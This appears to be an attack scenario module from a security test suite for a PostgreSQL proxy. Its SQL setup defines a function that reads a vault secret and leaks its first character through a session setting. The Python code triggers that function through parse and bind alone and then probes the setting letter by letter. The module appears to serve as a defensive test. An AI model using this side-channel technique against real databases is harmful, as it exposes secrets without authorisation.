"""Has a statement planned that makes up a parameter by a letter, and never runs it."""

from attacks.frames import SYNC, ask, bind, parse
from attacks.talking import Server

from pgtoll.wire.messages import query

WANTS = "read"
SHOWS = "letter-116"
SETUP = """
CREATE FUNCTION coin(given text) RETURNS boolean LANGUAGE plpgsql IMMUTABLE
  AS $$ DECLARE value text; BEGIN
  EXECUTE 'SELECT secret FROM public.vlt_' || 'account WHERE id = 1' INTO value;
  PERFORM set_config('x.y1_' || ascii(value), '', false);
  RETURN true;
END $$;
CREATE DOMAIN coin_text AS text CHECK (coin(VALUE));
"""
ASKED = "SELECT 'letter' || '-{0}' WHERE current_setting('x.y1_{0}', true) IS NOT NULL"


def attack(server: Server) -> bytes:
    with server.login() as client:
        ask(client, parse(b"SELECT coin('x')", b"s"), bind(b"s"), SYNC)
        return b"".join(ask(client, query(ASKED.format(one).encode())) for one in range(112, 119))
